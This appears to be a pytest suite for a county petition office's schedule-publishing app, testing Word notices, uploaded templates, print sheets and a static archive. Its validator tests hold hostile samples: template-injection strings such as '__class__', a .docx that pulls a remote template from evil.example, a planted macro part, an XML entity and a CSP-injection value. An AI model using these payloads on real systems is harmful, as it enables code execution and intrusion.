"""The page of outputs, Word notices and their templates, print sheets, the archive of static pages."""

import datetime as dt
import io
import posixpath
import re
import zipfile

import pytest
from docx import Document
from flask.testing import FlaskClient

from app.core.database import db, transaction
from app.feeds.models import FeedSettings
from app.feeds.notices.checking import BadTemplate, check_template
from app.feeds.notices.default import default_template
from app.feeds.notices.rendering import plain_text
from tests.factories import make_office
from tests.integration.accounts.test_access import sign_in
from tests.integration.feeds.conftest import County
from tests.published import replace_leader

BASE = "/offices/county"
DAY = dt.date(2026, 3, 10)


def words_of(document: bytes) -> str:
    """The text of a Word file, with its footers."""
    read = Document(io.BytesIO(document))
    footers = [p.text for section in read.sections for p in section.footer.paragraphs]
    return "\n".join(" | ".join(line) for line in plain_text(document)) + "\n" + "\n".join(footers)


def with_text(text: str) -> bytes:
    """A Word file that says this."""
    document = Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def repacked(content: bytes, **parts: bytes) -> bytes:
    """The package with parts replaced or added (names with _ for / and __ for .)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(name, old.read(name)))
        for name, body in parts.items():
            new.writestr(name, body)
    return buffer.getvalue()


def test_one_page_lists_everything_and_each_link_works(county: County, client: FlaskClient) -> None:
    sign_in(client, "anna")
    page = client.get(f"{BASE}/outputs", follow_redirects=True)
    text = page.get_data(as_text=True)
    links = set(re.findall(r'href="(/(?:offices/county|o/county|screen)[^"]*)"', text))
    wanted = ("notice/announcement.docx", "1.xlsx", "print?paper=a3", "site.zip", "/o/county/corrections")
    for part in wanted:
        assert any(part in link for link in links), part
    for link in sorted(links):
        assert client.get(link.replace("&amp;", "&"), follow_redirects=True).status_code == 200, link
    for address in ("calendar.ics", "changes.atom", "schedule.json"):
        assert f"http://127.0.0.1:8000/o/county/{address}" in text
    assert "&lt;iframe" in text


def test_the_announcement_has_the_columns_and_the_revision(county: County, client: FlaskClient) -> None:
    sign_in(client, "anna")
    text = words_of(client.get(f"{BASE}/revisions/1/notice/announcement.docx").data)
    assert "示例县信访局领导接访公告" in text
    assert "2026-03-02 | 一 | 安一 | 县委书记 | 教育、卫生健康 | 08:30–17:30" in text
    assert "第1版　发布时间 2026-02-20 17:00" in text
    assert "http://127.0.0.1:8000/o/county" in text


def test_the_correction_says_what_changed_and_why(county: County, client: FlaskClient) -> None:
    with transaction():
        replace_leader(county.office, DAY, county.leaders[2], "外出 & <开会>")
    sign_in(client, "anna")
    text = words_of(client.get(f"{BASE}/revisions/2/notice/correction.docx").data)
    assert "更正公告" in text and "更正原因：外出 & <开会>" in text
    assert "2026-03-10 | 二 | 全天 | 安一 08:30–17:30" in text and "陈三 08:30–17:30" in text
    assert text.count("2026-03-") == 1, "nothing else changed"
    address = f"{BASE}/revisions/{{}}/notice/announcement.docx".format
    assert "现将2026年3月10日领导接访安排" in words_of(client.get(address(2)).data), "one day is said once"
    assert "现将2026年3月2日至2026年4月30日领导" in words_of(client.get(address(1)).data)
    assert "第2版：更正 2026-03-10 接访日程" in client.get("/o/county/changes.atom").get_data(as_text=True)


def test_an_own_template_is_looked_at_before_it_is_used(county: County, client: FlaskClient) -> None:
    sign_in(client, "anna")
    file = (io.BytesIO(with_text("本局公告：{{单位}} 第{{版本}}版")), "公告.docx")
    previewed = client.post(f"{BASE}/notices/announcement", data={"file": file})
    assert previewed.status_code == 302
    page = client.get(previewed.location)
    assert "本局公告：示例县信访局 第1版" in page.get_data(as_text=True)
    address = f"{BASE}/revisions/1/notice/announcement.docx"
    assert "本局公告" not in words_of(client.get(address).data)
    assert client.post(f"{previewed.location}/use").status_code == 302
    assert "本局公告" in words_of(client.get(address).data)
    assert client.post(f"{BASE}/notices/announcement/default").status_code == 302
    assert "本局公告" not in words_of(client.get(address).data)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{姓名}}", "姓名"),
        ("{{单位.code}}", "单位.code"),
        ("{{单位.__class__}}", "__class__"),
        ("{{ 单位|upper }}", "不能使用函数"),
        ("{{ range(10) }}", "不能使用函数"),
        ("{% for a in 场次 %}{% for b in 变更 %}{% endfor %}{% endfor %}", "循环"),
        ("{% for a in 单位 %}{% endfor %}", "循环"),
        ("{% set a = 1 %}", "不能使用函数"),
        ("{{单位}", ""),
        ("没有占位符", "没有任何占位符"),
    ],
)
def test_a_template_with_anything_but_placeholders_is_refused(text: str, said: str) -> None:
    with pytest.raises(BadTemplate) as refused:
        check_template(with_text(text))
    assert said in refused.value.text.zh


def test_a_file_that_is_no_plain_word_document_is_refused(county: County, client: FlaskClient) -> None:
    good = default_template("announcement")
    assert "场次" in check_template(good)
    types = zipfile.ZipFile(io.BytesIO(good)).read("[Content_Types].xml")
    remote = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    bad = [
        b"not a zip",
        good[:2000],
        repacked(good, **{"word/vbaProject.bin": b"x"}),
        repacked(good, **{"[Content_Types].xml": types.replace(b"document.main+xml", b"template.main+xml")}),
        repacked(good, **{"word/_rels/settings.xml.rels": remote}),
        repacked(good, **{"word/huge.xml": b" " * (30 * 1024 * 1024)}),
        repacked(good, **{"docProps/core.xml": b"<a>{{range}}</a>"}),
        repacked(good, **{"word/x.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a/>'}),
    ]
    for number, content in enumerate(bad):
        with pytest.raises(BadTemplate):
            check_template(content)
            pytest.fail(f"accepted {number}")
    sign_in(client, "anna")
    answer = client.post(f"{BASE}/notices/suspension", data={"file": (io.BytesIO(b"x"), "a.doc")})
    assert answer.status_code == 400 and "不是 Word 文档" in answer.get_data(as_text=True)
    assert client.post(f"{BASE}/notices/suspension", data={}).status_code == 400


def test_print_sheets_carry_the_revision_in_the_repeated_head(county: County, client: FlaskClient) -> None:
    with transaction():
        replace_leader(county.office, DAY, county.leaders[2])
    sign_in(client, "anna")
    for paper in ("a4", "a3"):
        text = client.get(f"{BASE}/revisions/1/print?paper={paper}").get_data(as_text=True)
        head = text.partition("<thead>")[2].partition("</thead>")[0]
        assert "第 1 版" in head and "2月20日" in head
        assert f"paper-{paper}.css" in text and "已由第 2 版取代" in head
    assert client.get(f"{BASE}/revisions/1/print?paper=a0").status_code == 404


def test_the_archive_opens_from_disk(county: County, client: FlaskClient) -> None:
    with transaction():
        make_office("town-01", "township", county.office, "柳河镇")
        replace_leader(county.office, DAY, county.leaders[2], "外出开会")
    sign_in(client, "anna")
    answer = client.get(f"{BASE}/outputs/site.zip?below=1")
    package = zipfile.ZipFile(io.BytesIO(answer.data))
    names = set(package.namelist())
    assert {
        "index.html",
        "en/index.html",
        "county/year-2026.html",
        "county/calendar.ics",
        "town-01/index.html",
    } <= names
    for name in (n for n in names if n.endswith(".html")):
        text = package.read(name).decode()
        assert "<script" not in text and not re.search(r'(?:href|src)="(?:/|https?:)', text), name
        for link in re.findall(r'(?:href|src)="([^"#]+)"', text):
            if not link.startswith("tel:"):
                target = posixpath.normpath(posixpath.join(posixpath.dirname(name), link))
                assert target in names, f"{name} -> {link}"
    assert "外出开会" in package.read("county/corrections.html").decode()
    assert "revision 2" in package.read("en/county/index.html").decode()
    assert client.get(f"{BASE}/outputs/site.zip?below=1").data == answer.data, "the same bytes every time"


def test_settings_of_the_outputs(county: County, client: FlaskClient) -> None:
    sign_in(client, "anna")
    url = f"{BASE}/outputs/settings"
    bad = client.post(url, data={"embed_sites": "www.example.gov.cn; script-src *"})
    assert bad.status_code == 400 and "不是网站地址" in bad.get_data(as_text=True)
    good = {"embed_sites": "https://WWW.example.gov.cn/ https://*.example.gov.cn", "visit_details": "y"}
    assert client.post(url, data=good).status_code == 302
    row = db.session.get_one(FeedSettings, county.office.id)
    assert row.embed_sites == "https://www.example.gov.cn https://*.example.gov.cn" and row.visit_details
    other = client.application.test_client()
    sign_in(other, "rita")
    assert other.post(url, data=good).status_code == 403
